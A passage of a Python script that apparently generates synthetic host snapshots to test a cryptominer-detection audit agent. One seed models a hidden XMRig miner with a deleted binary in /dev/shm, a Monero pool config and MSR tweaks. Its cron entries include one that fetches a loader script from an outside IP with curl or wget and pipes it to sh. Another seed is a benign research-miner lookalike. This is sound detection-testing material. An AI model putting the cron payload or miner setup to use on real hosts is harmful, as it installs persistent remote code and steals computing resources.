                "urls": ["stratum+ssl://pool.supportxmr.com:443"], "users": [XMR_WALLET],
                "keys": ["pools", "donate-level", "randomx", "cpu", "tls", "background"], "algorithms": ["rx/0"]}]
    binaries = [{"path": "/dev/shm/.x/kworker (deleted)", "pids": [miner["pid"]],
                 "sha256": hashlib.sha256(b"xmrig 6.22.2 static").hexdigest(), "size_bytes": 8_467_232,
                 "scanned_bytes": 8_467_232,
                 "matched_strings": ["XMRig/%s", "randomx", "stratum+ssl://", "donate.v2.xmrig.com"],
                 "engine": "builtin", "error": ""}]
    persistence = [
        {"path": "/var/spool/cron/crontabs/wangfang", "kind": "cron", "line": 3,
         "text": "@reboot /dev/shm/.x/kworker >/dev/null 2>&1", "user": "wangfang"},
        {"path": "/var/spool/cron/crontabs/wangfang", "kind": "cron", "line": 4,
         "text": "*/30 * * * * (curl -fsSL http://203.0.113.45/ldr.sh || wget -q -O- http://203.0.113.45/ldr.sh) | sh",
         "user": "wangfang"},
        {"path": "/etc/cron.d/e2scrub_all", "kind": "cron", "line": 2,
         "text": "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron",
         "user": "root"},
        {"path": "/etc/cron.d/sysstat", "kind": "cron", "line": 5,
         "text": "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1", "user": "root"},
    ]
    load = h.load(gpu_means=[])
    coverage = full_coverage(len(h.processes), len(h.connections), denied=0, gpu_status="skipped",
                             gpu_reasons=("nvml_missing", "no_nvidia_smi"), executables=61, configs=3, files=24,
                             entries=len(persistence) + 31, busy=4)
    return h.snapshot({"os_release": "Debian GNU/Linux 12 (bookworm)", "kernel": "6.1.0-27-amd64",
                       "cpu_model": "Intel(R) Xeon(R) Gold 6338 CPU @ 2.00GHz", "cpu_sockets": 2, "cpu_cores": 64,
                       "cpu_threads": 128, "memory_total_bytes": 512 * GiB},
                      [], load, coverage, configs=configs, binaries=binaries, persistence=persistence,
                      stealth={"hugepages_total": 1280, "msr_loaded": True, "msr_allow_writes": "on"})


def compute_node() -> dict[str, Any]:
    h = Host("cn-117", seed=117, collected_at="2026-11-24T14:05:00", window=30.0, threads=64)
    h.kernel()
    d = h.system(nvidia=True)
    for user in ("zhaolei", "hpcadmin"):
        h.user_manager(user)
    # Filed research: proof-of-work energy measurements against the lab's private test pool.
    research = h.slurm_job(d["slurmd"], "90122", "zhaolei",
                           ["/opt/research/pow-energy/bin/cpuminer-opt", "--algo", "sha256d", "--url",
                            "stratum+tcp://10.20.0.5:3333", "--user", "testnet-lab.cn117", "--threads", "16",
                            "--benchmark-log", "/scratch/zhaolei/pow-energy/run-118.csv"],
                           name="cpuminer-opt", exe="/opt/research/pow-energy/bin/cpuminer-opt", cpu=1540.0,
                           threads=17, cpus=16, rss_gb=0.2, cwd="/scratch/zhaolei/pow-energy")
    h.conn(research["pid"], "10.20.8.117", h.ephemeral(), "10.20.0.5", 3333, sent=402_118, received=1_220_904)
    h.proc("perf", ["/usr/bin/perf", "stat", "-a", "-e", "power/energy-pkg/", "-I", "1000", "-o",
                    "/scratch/zhaolei/pow-energy/energy-118.txt"], user="zhaolei", cpu=1.1, rss_mb=20,
           cgroup=research["cgroup"], slurm_job_id="90122")
    # GPU 1 acceptance burn-in by the HPC admins (allowlisted in seeds/config.yaml).
    burn = h.proc("gpu_burn", ["/opt/gpu-burn/gpu_burn", "-d", "-i", "1", "3600"], exe="/opt/gpu-burn/gpu_burn",
                  user="hpcadmin", cpu=99.0, threads=3, rss_mb=480,
                  cgroup="/user.slice/user-20014.slice/session-41.scope", terminal="pts/0", age_days=0.02)
    h.ssh_session("hpcadmin", d["sshd"], 0, "10.20.1.15", [("nvidia-smi", ["nvidia-smi", "-l", "5"], 0.3)])
    h.ssh_session("zhaolei", d["sshd"], 1, "10.30.12.44", [("tail", ["tail", "-f", "slurm-90122.out"], 0.0)])
    while len(h.processes) < 190:
        h.ssh_session("hpcadmin", d["sshd"], len(h.processes) % 20 + 2, "10.20.1.15", [("bash", ["bash"], 0.0)])
    gpus = [gpu(0, "NVIDIA A30", 24, "550.127.05", 0.0, [], "cn-117"),
            gpu(1, "NVIDIA A30", 24, "550.127.05", 100.0, [(burn["pid"], 22.1)], "cn-117")]
    load = h.load(gpu_means=[0, 100])
    coverage = full_coverage(len(h.processes), len(h.connections), executables=47, configs=1, files=19, entries=38,
                             busy=3)
    return h.snapshot({"os_release": "Rocky Linux 9.4 (Blue Onyx)", "kernel": "5.14.0-427.42.1.el9_4.x86_64",
                       "cpu_model": "Intel(R) Xeon(R) Platinum 8358 CPU @ 2.60GHz", "cpu_sockets": 2, "cpu_cores": 64,
                       "cpu_threads": 64, "memory_total_bytes": 256 * GiB},
                      gpus, load, coverage)


SEEDS = {"gpu-lab-03": gpu_lab, "login-02": login_node, "cn-117": compute_node}


def main(out_dir: Path = HERE) -> None:
    for name, build in SEEDS.items():
        path = out_dir / f"{name}.snapshot.json"
        path.write_text(json.dumps(build(), indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
        print(f"wrote {path}")


if __name__ == "__main__":
    import sys
    sys.path.insert(0, str(HERE.parent))        # the checkout's audit_agent, whose reason codes the seeds use
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
